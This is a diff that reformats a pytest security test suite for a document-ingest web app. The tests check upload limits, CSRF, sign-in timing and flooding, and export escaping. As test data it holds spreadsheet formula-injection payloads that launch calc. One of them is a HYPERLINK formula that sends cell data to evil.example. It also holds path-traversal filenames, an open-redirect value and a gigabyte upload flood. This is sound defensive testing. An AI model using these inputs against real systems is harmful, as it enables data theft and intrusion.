@@ -32,7 +32,11 @@ from tests.web.test_security import _client, _NoRedirect, signed_in_client
 
 MB = 1 << 20
 BOUNDARY = "----attack7MA4YWxkTrZu0gW"
-SECURITY_HEADERS = {"x-frame-options": "DENY", "x-content-type-options": "nosniff", "referrer-policy": "same-origin"}
+SECURITY_HEADERS = {
+    "x-frame-options": "DENY",
+    "x-content-type-options": "nosniff",
+    "referrer-policy": "same-origin",
+}
 
 
 @pytest.fixture(scope="module")
@@ -57,8 +61,13 @@ def small(site: Site) -> Iterator[tuple[str, subprocess.Popen, Path]]:
 # ---------------------------------------------------------------- HTTP helpers
 
 
-def _fetch(opener: urllib.request.OpenerDirector, url: str, data: dict | bytes | None = None,
-           headers: dict[str, str] | None = None, timeout: float = 60) -> tuple[int, dict[str, str], bytes]:
+def _fetch(
+    opener: urllib.request.OpenerDirector,
+    url: str,
+    data: dict | bytes | None = None,
+    headers: dict[str, str] | None = None,
+    timeout: float = 60,
+) -> tuple[int, dict[str, str], bytes]:
     body = urllib.parse.urlencode(data).encode() if isinstance(data, dict) else data
     request = urllib.request.Request(url, data=body, headers=headers or {})
     try:
@@ -75,14 +84,19 @@ def _login_token(opener: urllib.request.OpenerDirector, url: str) -> str:
     return found.group(1)
 
 
-def _try_login(url: str, user: str, password: str, address: str,
-               headers: dict[str, str] | None = None) -> tuple[int, dict[str, str], float]:
+def _try_login(
+    url: str, user: str, password: str, address: str, headers: dict[str, str] | None = None
+) -> tuple[int, dict[str, str], float]:
     """One sign-in from `address` (uvicorn takes X-Forwarded-For from a local proxy): status, headers, s."""
     opener = _client()
     token = _login_token(opener, url)
     start = time.monotonic()
-    code, head, _ = _fetch(opener, url + "/login", {"username": user, "password": password, "csrf_token": token},
-                           {"X-Forwarded-For": address, **(headers or {})})
+    code, head, _ = _fetch(
+        opener,
+        url + "/login",
+        {"username": user, "password": password, "csrf_token": token},
+        {"X-Forwarded-For": address, **(headers or {})},
+    )
     return code, head, time.monotonic() - start
 
 
@@ -90,8 +104,11 @@ def _add_user(site: Site, name: str, password: str, role: str = "operator", disa
     from models.cli import hash_password
 
     with sqlite3.connect(site.data / "ingest.sqlite") as db:
-        cur = db.execute("insert into user (username, password_hash, role, disabled, created_at) values "
-                         "(?, ?, ?, ?, datetime('now'))", (name, hash_password(password), role, disabled))
+        cur = db.execute(
+            "insert into user (username, password_hash, role, disabled, created_at) values "
+            "(?, ?, ?, ?, datetime('now'))",
+            (name, hash_password(password), role, disabled),
+        )
         return int(cur.lastrowid or 0)
 
 
@@ -114,7 +131,9 @@ def _sign_in_at(url: str, user: str, password: str) -> tuple[urllib.request.Open
     jar = CookieJar()
     opener = urllib.request.build_opener(_NoRedirect(), urllib.request.HTTPCookieProcessor(jar))
     token = _login_token(opener, url)
-    code, head, _ = _fetch(opener, url + "/login", {"username": user, "password": password, "csrf_token": token})
+    code, head, _ = _fetch(
+        opener, url + "/login", {"username": user, "password": password, "csrf_token": token}
+    )
     assert (code, head.get("location")) == (303, "/")
     return opener, _csrf_of(opener, url), jar
 
@@ -123,7 +142,9 @@ def _multipart(fields: list[tuple[str, str | None, bytes]]) -> bytes:
     """(name, filename or None, content) parts, in this order."""
     out = io.BytesIO()
     for name, filename, content in fields:
-        disposition = f'form-data; name="{name}"' + (f'; filename="{filename}"' if filename is not None else "")
+        disposition = f'form-data; name="{name}"' + (
+            f'; filename="{filename}"' if filename is not None else ""
+        )
         out.write(f"--{BOUNDARY}\r\nContent-Disposition: {disposition}\r\n".encode())
         if filename is not None:
             out.write(b"Content-Type: application/octet-stream\r\n")
@@ -132,11 +153,16 @@ def _multipart(fields: list[tuple[str, str | None, bytes]]) -> bytes:
     return out.getvalue()
 
 
-def _upload(opener: urllib.request.OpenerDirector, url: str, token: str | None,
-            files: list[tuple[str, bytes]]) -> tuple[int, dict[str, str], bytes]:
+def _upload(
+    opener: urllib.request.OpenerDirector, url: str, token: str | None, files: list[tuple[str, bytes]]
+) -> tuple[int, dict[str, str], bytes]:
     fields = ([("csrf_token", None, token.encode())] if token else []) + [("files", n, c) for n, c in files]
-    return _fetch(opener, url + "/documents/upload", _multipart(fields),
-                  {"Content-Type": f"multipart/form-data; boundary={BOUNDARY}"})
+    return _fetch(
+        opener,
+        url + "/documents/upload",
+        _multipart(fields),
+        {"Content-Type": f"multipart/form-data; boundary={BOUNDARY}"},
+    )
 
 
 # ---------------------------------------------------------------- what the server writes, and its memory
@@ -196,20 +222,25 @@ def _gigabyte_upload(token: str = "") -> Iterator[bytes]:
     head = f"--{BOUNDARY}\r\n"
     if token:
         head += f'Content-Disposition: form-data; name="csrf_token"\r\n\r\n{token}\r\n--{BOUNDARY}\r\n'
-    yield (head + 'Content-Disposition: form-data; name="files"; filename="big.pdf"\r\n'
-           "Content-Type: application/pdf\r\n\r\n").encode()
+    yield (
+        head + 'Content-Disposition: form-data; name="files"; filename="big.pdf"\r\n'
+        "Content-Type: application/pdf\r\n\r\n"
+    ).encode()
     chunk = b"%PDF" + b"\0" * (MB - 4)
     for _ in range(1024):
         yield chunk
     yield f"\r\n--{BOUNDARY}--\r\n".encode()
 
 
-def _stream_post(url: str, path: str, body: Iterator[bytes], headers: dict[str, str],
-                 give_up: Callable[[], bool]) -> tuple[int, int]:
+def _stream_post(
+    url: str, path: str, body: Iterator[bytes], headers: dict[str, str], give_up: Callable[[], bool]
+) -> tuple[int, int]:
     """POST `body` chunked over a raw socket until the server answers or hangs up (or `give_up`): the
     response status (0: none) and the bytes sent."""
     host, port = urllib.parse.urlsplit(url).netloc.split(":")
-    head = f"POST {path} HTTP/1.1\r\nHost: {host}:{port}\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n"
+    head = (
+        f"POST {path} HTTP/1.1\r\nHost: {host}:{port}\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n"
+    )
     head += "".join(f"{k}: {v}\r\n" for k, v in headers.items()) + "\r\n"
     sent = 0
     with socket.create_connection((host, int(port)), timeout=10) as sock:
@@ -247,15 +278,25 @@ def test_anonymous_gigabyte_post_is_refused_before_a_megabyte_is_written(site: S
     dirs = [tmp, site.data / "inbox"]
     base = _written(proc.pid, dirs)
     with _Watch(lambda: _written(proc.pid, dirs) - base) as grown:
-        status, sent = _stream_post(url, "/documents/upload", _gigabyte_upload(),
-                                    {"Content-Type": f"multipart/form-data; boundary={BOUNDARY}"},
-                                    give_up=lambda: grown.peak >= MB)
-    print(f"\nanonymous 1 GiB POST: answered {status} after {sent / MB:.1f} MB sent, {grown.peak} bytes written")
+        status, sent = _stream_post(
+            url,
+            "/documents/upload",
+            _gigabyte_upload(),
+            {"Content-Type": f"multipart/form-data; boundary={BOUNDARY}"},
+            give_up=lambda: grown.peak >= MB,
+        )
+    print(
+        f"\nanonymous 1 GiB POST: answered {status} after {sent / MB:.1f} MB sent, {grown.peak} bytes written"
+    )
     assert grown.peak < MB, f"{grown.peak} bytes written for an anonymous upload"
     assert status in (303, 401, 403, 413)
     # Announced as 1 GiB up front: refused on the header alone.
-    code, _, _ = _fetch(_client(), url + "/documents/upload", b"x" * 10,
-                        {"Content-Type": f"multipart/form-data; boundary={BOUNDARY}"})
+    code, _, _ = _fetch(
+        _client(),
+        url + "/documents/upload",
+        b"x" * 10,
+        {"Content-Type": f"multipart/form-data; boundary={BOUNDARY}"},
+    )
     assert code in (303, 401, 403, 413)
 
 
@@ -266,9 +307,13 @@ def test_file_before_a_valid_csrf_token_is_refused_before_it_is_written(site: Si
     dirs = [tmp, site.data / "inbox"]
     base = _written(proc.pid, dirs)
     with _Watch(lambda: _written(proc.pid, dirs) - base) as grown:
-        status, _ = _stream_post(url, "/documents/upload", _gigabyte_upload(token[:-3] + "abc"),
-                                 {"Content-Type": f"multipart/form-data; boundary={BOUNDARY}", "Cookie": cookie},
-                                 give_up=lambda: grown.peak >= MB)
+        status, _ = _stream_post(
+            url,
+            "/documents/upload",
+            _gigabyte_upload(token[:-3] + "abc"),
+            {"Content-Type": f"multipart/form-data; boundary={BOUNDARY}", "Cookie": cookie},
+            give_up=lambda: grown.peak >= MB,
+        )
     assert grown.peak < MB and status == 403
 
 
@@ -278,11 +323,15 @@ def test_upload_over_the_file_limit_is_refused_and_leaves_nothing(site: Site, sm
     folder = site.data / "inbox/web/olga"
     before = set(folder.glob("*")) if folder.exists() else set()
     spooled = _written(proc.pid, [tmp])
-    code, _, _ = _upload(opener, url, token, [("fine.pdf", b"%PDF" + b"0" * 1000), ("huge.pdf", b"0" * (MB + 10))])
+    code, _, _ = _upload(
+        opener, url, token, [("fine.pdf", b"%PDF" + b"0" * 1000), ("huge.pdf", b"0" * (MB + 10))]
+    )
     assert code == 413
     assert set(folder.glob("*")) == before  # neither file kept, no .upload-*.part left behind
     assert _written(proc.pid, [tmp]) == spooled
-    code, _, _ = _upload(opener, url, token, [("three.pdf", b"0" * (MB - 100))] * 3)  # 3 MB: over the request cap
+    code, _, _ = _upload(
+        opener, url, token, [("three.pdf", b"0" * (MB - 100))] * 3
+    )  # 3 MB: over the request cap
     assert code == 413 and set(folder.glob("*")) == before
     code, _, _ = _upload(opener, url, token, [("fine.pdf", b"%PDF" + b"0" * 1000)])
     assert code == 303 and len(set(folder.glob("*")) - before) == 1
@@ -320,8 +369,10 @@ def test_unknown_and_disabled_names_take_as_long_as_known_ones(site: Site) -> No
 
     known, unknown = median("kim", "wrong-pw", 1), median("no-such-user", "wrong-pw", 2)
     disabled = median("dora", "dora-secret-pw", 3)
-    print(f"\nsign-in time: known {known * 1000:.0f} ms, unknown {unknown * 1000:.0f} ms, "
-          f"disabled {disabled * 1000:.0f} ms")
+    print(
+        f"\nsign-in time: known {known * 1000:.0f} ms, unknown {unknown * 1000:.0f} ms, "
+        f"disabled {disabled * 1000:.0f} ms"
+    )
     assert 0.5 < known / unknown < 2 and 0.5 < known / disabled < 2
 
 
@@ -343,8 +394,11 @@ def test_forty_concurrent_wrong_sign_ins_stay_small_and_others_are_served(site: 
 
     password_hash = hash_password("flood-secret-pw")
     with sqlite3.connect(site.data / "ingest.sqlite") as db:
-        db.executemany("insert into user (username, password_hash, role, disabled, created_at) values "
-                       "(?, ?, 'operator', 0, datetime('now'))", [(f"flood{i}", password_hash) for i in range(8)])
+        db.executemany(
+            "insert into user (username, password_hash, role, disabled, created_at) values "
+            "(?, ?, 'operator', 0, datetime('now'))",
+            [(f"flood{i}", password_hash) for i in range(8)],
+        )
     guesses = [(f"flood{i % 8}", f"10.4.0.{i}") for i in range(40)]
     with _Watch(lambda: _rss_mb(proc.pid)) as rss, ThreadPoolExecutor(40) as pool:
         start = time.monotonic()
@@ -353,8 +407,10 @@ def test_forty_concurrent_wrong_sign_ins_stay_small_and_others_are_served(site: 
         other_user()
         codes = [f.result()[0] for f in futures]
         took = time.monotonic() - start
-    print(f"\n40 wrong sign-ins at once: RSS {base:.0f} -> peak {rss.peak:.0f} MB, {took:.1f} s; "
-          f"other user's pages {[f'{s:.2f}s' for _, s in pages]}; answers {sorted(set(codes))}")
+    print(
+        f"\n40 wrong sign-ins at once: RSS {base:.0f} -> peak {rss.peak:.0f} MB, {took:.1f} s; "
+        f"other user's pages {[f'{s:.2f}s' for _, s in pages]}; answers {sorted(set(codes))}"
+    )
     assert rss.peak < 500
     # 503 + Retry-After: a guess that found no free hash slot within signin.HASH_WAIT (load shed, not served).
     assert set(codes) <= {401, 503} and codes.count(401) >= 10
@@ -405,8 +461,12 @@ def test_cookie_is_secure_behind_an_https_proxy(site: Site) -> None:
     for proto, secure in (("https", True), ("http", False)):
         opener = _client()
         token = _login_token(opener, site.url)
-        _code, head, _ = _fetch(opener, site.url + "/login", {"username": "olga", "password": "operator-pass-1",
-                                                              "csrf_token": token}, {"X-Forwarded-Proto": proto})
+        _code, head, _ = _fetch(
+            opener,
+            site.url + "/login",
+            {"username": "olga", "password": "operator-pass-1", "csrf_token": token},
+            {"X-Forwarded-Proto": proto},
+        )
         assert head["set-cookie"].startswith("ingest_session=")
         assert ("; secure" in head["set-cookie"].lower()) is secure, head["set-cookie"]
 
@@ -414,8 +474,9 @@ def test_cookie_is_secure_behind_an_https_proxy(site: Site) -> None:
 def test_sign_in_issues_a_new_csrf_token(site: Site) -> None:
     opener = _client()
     before = _login_token(opener, site.url)
-    code, _, _ = _fetch(opener, site.url + "/login", {"username": "olga", "password": "operator-pass-1",
-                                                      "csrf_token": before})
+    code, _, _ = _fetch(
+        opener, site.url + "/login", {"username": "olga", "password": "operator-pass-1", "csrf_token": before}
+    )
     assert code == 303
     assert _csrf_of(opener, site.url) != before
     assert _fetch(opener, site.url + "/logout", {"csrf_token": before})[0] == 403  # the old one is dead
@@ -423,8 +484,14 @@ def test_sign_in_issues_a_new_csrf_token(site: Site) -> None:
 
 # ---------------------------------------------------------------- 4. exports that are data
 
-PAYLOADS = ["=1+1+cmd|' -C calc'!A0.txt", "+1+1+cmd|' /C calc'!A0.pdf", "-2+3+cmd|' /C calc'!A0.pdf",
-            "@SUM(1+1)*cmd|' /C calc'!A0.pdf", "\t=1+1.pdf", "\r=1+1.pdf"]
+PAYLOADS = [
+    "=1+1+cmd|' -C calc'!A0.txt",
+    "+1+1+cmd|' /C calc'!A0.pdf",
+    "-2+3+cmd|' /C calc'!A0.pdf",
+    "@SUM(1+1)*cmd|' /C calc'!A0.pdf",
+    "\t=1+1.pdf",
+    "\r=1+1.pdf",
+]
 
 
 def _export(opener: urllib.request.OpenerDirector, url: str, fmt: str, long: bool) -> bytes:
@@ -461,26 +528,44 @@ def test_upload_names_that_look_like_formulas_are_exported_as_text(site: Site, p
     for long in (False, True):
         cells = _csv_cells(_export(opener, site.url, "csv", long), "original_name")
         assert "'" + payload in cells and payload not in cells
-        values = _xlsx_cells(_export(opener, site.url, "xlsx", long), "original_name", "文件", "文件名", "file")
+        values = _xlsx_cells(
+            _export(opener, site.url, "xlsx", long), "original_name", "文件", "文件名", "file"
+        )
         assert (payload, "s") in values  # a string cell: Excel shows it, never runs it
 
 
 def test_a_formula_typed_as_a_correction_is_exported_as_text(site: Site) -> None:
-    field = _query(site, "select id from field where report_id = ? and key = 'meta.agency'", site.reports["seed002"])
+    field = _query(
+        site, "select id from field where report_id = ? and key = 'meta.agency'", site.reports["seed002"]
+    )
     opener, token = signed_in_client(site)
     formula = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'
-    assert _fetch(opener, f"{site.url}/fields/{field[0][0]}/decide",
-                  {"decision": "corrected", "value": formula, "csrf_token": token})[0] == 303
+    assert (
+        _fetch(
+            opener,
+            f"{site.url}/fields/{field[0][0]}/decide",
+            {"decision": "corrected", "value": formula, "csrf_token": token},
+        )[0]
+        == 303
+    )
     assert "'" + formula in _csv_cells(_export(opener, site.url, "csv", True), "value")
     assert (formula, "s") in _xlsx_cells(_export(opener, site.url, "xlsx", True), "value")
 
 
 def test_text_corrections_keep_their_commas(site: Site) -> None:
-    field = _query(site, "select id from field where report_id = ? and key = 'meta.agency'", site.reports["pdf"])
+    field = _query(
+        site, "select id from field where report_id = ? and key = 'meta.agency'", site.reports["pdf"]
+    )
     opener, token = signed_in_client(site)
     typed = "某市人民政府办公室,信息公开科，第一组"
-    assert _fetch(opener, f"{site.url}/fields/{field[0][0]}/decide",
-                  {"decision": "corrected", "value": typed, "csrf_token": token})[0] == 303
+    assert (
+        _fetch(
+            opener,
+            f"{site.url}/fields/{field[0][0]}/decide",
+            {"decision": "corrected", "value": typed, "csrf_token": token},
+        )[0]
+        == 303
+    )
     new = _query(site, "select new from correction where field_id = ? order by id desc limit 1", field[0][0])
     assert new[0][0] == typed
 
@@ -491,8 +576,11 @@ def test_text_corrections_keep_their_commas(site: Site) -> None:
 def test_admins_cannot_create_path_like_user_names(site: Site) -> None:
     admin, token, _ = _sign_in_at(site.url, "adam", "admin-pass-12")
     for name in ("../../../../tmp/x/evil", ".hidden", "a/b", "x.part"):
-        _fetch(admin, site.url + "/users", {"username": name, "password": "long-enough-pw", "role": "operator",
-                                            "csrf_token": token})
+        _fetch(
+            admin,
+            site.url + "/users",
+            {"username": name, "password": "long-enough-pw", "role": "operator", "csrf_token": token},
+        )
         assert not _query(site, "select id from user where username = ?", name), name
 
 
@@ -504,8 +592,18 @@ def test_uploads_of_an_old_odd_account_stay_inside_the_inbox(site: Site) -> None
     assert (site.data / f"inbox/web/user-{uid}/a.pdf").exists()
 
 
-ODD_NAMES = ["..\\..\\x.txt", ".hidden.pdf", "a" * 300 + ".pdf", "年报" * 120 + ".docx", "report.part",
-             "~$lock.docx", "Thumbs.db", "x.reason.txt", "bad\x01name.pdf", ".."]
+ODD_NAMES = [
+    "..\\..\\x.txt",
+    ".hidden.pdf",
+    "a" * 300 + ".pdf",
+    "年报" * 120 + ".docx",
+    "report.part",
+    "~$lock.docx",
+    "Thumbs.db",
+    "x.reason.txt",
+    "bad\x01name.pdf",
+    "..",
+]
 
 
 def test_odd_upload_names_become_names_the_watcher_takes(site: Site) -> None:
@@ -556,7 +654,9 @@ def test_every_response_has_the_security_headers(site: Site, path: str) -> None:
 
 def test_the_app_cannot_be_framed_and_its_pages_run_under_the_policy(page, site: Site) -> None:  # type: ignore[no-untyped-def]
     violations: list[str] = []
-    page.on("console", lambda msg: violations.append(msg.text) if "Content Security Policy" in msg.text else None)
+    page.on(
+        "console", lambda msg: violations.append(msg.text) if "Content Security Policy" in msg.text else None
+    )
     sign_in(page, site)
     page.goto(f"{site.url}/reports/{site.reports['seed001']}")
     page.locator("td.cell[data-field-id]").first.click()
@@ -607,10 +707,21 @@ def test_the_database_file_is_private(site: Site) -> None:
             assert path.stat().st_mode & 0o777 == 0o600, name
 
 
-ODD_QUERIES = ["/documents?year=" + urllib.parse.quote("²⁰²⁰"), "/documents?year=%00", "/documents?q=%00abc", "/documents?page=" + "9" * 30,
-               "/documents?page=-3", "/reports/" + "9" * 30, "/review?report=" + "9" * 30, "/review?pos=-5",
-               "/fields/" + "9" * 30 + "/panel", "/fields/-1/crop.png", "/export?fmt=csv&long=maybe",
-               "/login?next=/%5Cevil.example", "/documents?status=%ff%fe"]
+ODD_QUERIES = [
+    "/documents?year=" + urllib.parse.quote("²⁰²⁰"),
+    "/documents?year=%00",
+    "/documents?q=%00abc",
+    "/documents?page=" + "9" * 30,
+    "/documents?page=-3",
+    "/reports/" + "9" * 30,
+    "/review?report=" + "9" * 30,
+    "/review?pos=-5",
+    "/fields/" + "9" * 30 + "/panel",
+    "/fields/-1/crop.png",
+    "/export?fmt=csv&long=maybe",
+    "/login?next=/%5Cevil.example",
+    "/documents?status=%ff%fe",
+]
 
 
 def test_odd_query_strings_never_give_500(site: Site) -> None:
@@ -622,6 +733,9 @@ def test_odd_query_strings_never_give_500(site: Site) -> None:
 def test_sign_in_never_redirects_off_site(site: Site) -> None:
     opener = _client()
     token = _login_token(opener, site.url)
-    _code, head, _ = _fetch(opener, site.url + "/login", {"username": "olga", "password": "operator-pass-1",
-                                                          "csrf_token": token, "next": "/\\evil.example"})
+    _code, head, _ = _fetch(
+        opener,
+        site.url + "/login",
+        {"username": "olga", "password": "operator-pass-1", "csrf_token": token, "next": "/\\evil.example"},
+    )
     assert head["location"] == "/"
